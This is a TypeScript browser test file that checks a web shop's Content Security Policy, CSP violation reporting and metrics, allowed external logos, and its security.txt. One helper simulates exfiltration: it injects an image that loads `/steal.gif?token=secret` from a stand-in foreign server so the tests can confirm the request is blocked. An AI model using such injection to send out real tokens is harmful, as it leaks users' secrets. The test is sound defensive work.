import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright';
import { afterAll, expect, inject, onTestFinished } from 'vitest';
import { write } from '#api/database/transaction.ts';
import { readSettings, saveSettings } from '#api/services/store/settings.ts';
import { readPolicy } from '#tests/support/browser/addresses.ts';
import { startSmallShop } from '#tests/support/browser/shared-shops.ts';
import { newDataDir, openRecords, startShop } from '#tests/support/browser/shop-server.ts';
import { useShop } from '#tests/support/shop-test.ts';

/** Another site that records its requests and answers with a picture. */
const asked: string[] = [];
const foreign = createServer((request, response) => {
  asked.push(request.url ?? '');
  response.writeHead(200, { 'content-type': 'image/svg+xml' });
  response.end('<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8"/>');
});
await new Promise<void>((resolve) => foreign.listen(0, '127.0.0.1', resolve));
afterAll(() => void foreign.close());
const elsewhere = `http://127.0.0.1:${(foreign.address() as AddressInfo).port}`;
const { shop, test } = await useShop(startShop(newDataDir(inject('demoTemplate')), { METRICS_TOKEN: 'm3trics' }));

const metrics = async (): Promise<string> =>
  (await fetch(`${shop.url}/metrics`, { headers: { authorization: 'Bearer m3trics' } })).text();

/** Adds a picture of another site to a page; resolves to the directive that blocks it. */
const injectPicture = (page: Page): Promise<string> =>
  page.evaluate(
    (source) =>
      new Promise<string>((resolve) => {
        document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), { once: true });
        const picture = document.createElement('img');
        picture.src = source;
        document.body.append(picture);
      }),
    `${elsewhere}/steal.gif?token=secret`,
  );

test('the shop gets a report of a blocked picture', async ({ page }) => {
  await page.goto(shop.url);
  const report = page.waitForRequest((request) => request.url() === `${shop.url}/csp-reports`);
  expect(await injectPicture(page)).toBe('img-src');
  expect((await (await report).response())?.status()).toBe(204);
  expect(asked).toEqual([]);
  // Several servers are asked in turn; one of them has got the report.
  await expect.poll(metrics).toContain('shop_csp_violations_total{directive="img-src"} 1');
});

test('an injected picture is blocked', async ({ page }) => {
  await page.goto(`${shop.url}/faq`);
  expect(await injectPicture(page)).toBe('img-src');
  expect(asked).toEqual([]);
});

test('an injected base address is ignored', async ({ page }) => {
  await page.goto(shop.url);
  const resolved = await page.evaluate((base) => {
    const element = document.createElement('base');
    element.href = base;
    document.head.prepend(element);
    return new URL('/cart', document.baseURI).origin;
  }, elsewhere);
  expect(resolved).toBe(shop.url);
});

test.for(['local', 'remote'])(
  'a picture at an external address is shown, from a %s store',
  { timeout: 120_000 },
  async (place, { page, pageErrors }) => {
    const own = await startSmallShop();
    onTestFinished(own.stop);
    const remote = place === 'remote' ? await startShop(newDataDir(), { STORE_API_URL: own.apiUrl }) : undefined;
    if (remote) onTestFinished(remote.stop);
    const db = await openRecords(own);
    await write(db, async (tx) => saveSettings(tx, { ...(await readSettings(tx)), logo: `${elsewhere}/logo.svg` }));
    await db.destroy();
    await own.publish();
    asked.length = 0;
    const response = await page.goto((remote ?? own).url);
    const policy = response ? await readPolicy({ headers: response.headers(), text: () => response.text() }) : '';
    expect(policy).toMatch(new RegExp(`img-src 'self' data:[^;]* ${elsewhere}[ ;]`));
    await expect.poll(() => asked).toContain('/logo.svg');
    expect(pageErrors).toEqual([]);
  },
);

test('security.txt names the security contact, and does not exist without one', async () => {
  const path = '/.well-known/security.txt';
  const told = await fetch(shop.url + path);
  expect([told.status, told.headers.get('content-type')]).toEqual([200, 'text/plain; charset=utf-8']);
  const [, contact, expires] =
    /^Contact: mailto:(\S+)\nExpires: (\S+)\nPreferred-Languages: en, hi\n$/.exec(await told.text()) ?? [];
  expect(contact).toMatch(/^[^@]+@[^@]+$/);
  const days = (Date.parse(expires as string) - Date.now()) / 86_400_000;
  expect(days).toBeGreaterThan(150);
  expect(days).toBeLessThan(365);
  await shop.store('theme', 'set', 'legal.support_email=');
  expect((await fetch(shop.url + path)).status).toBe(404);
});
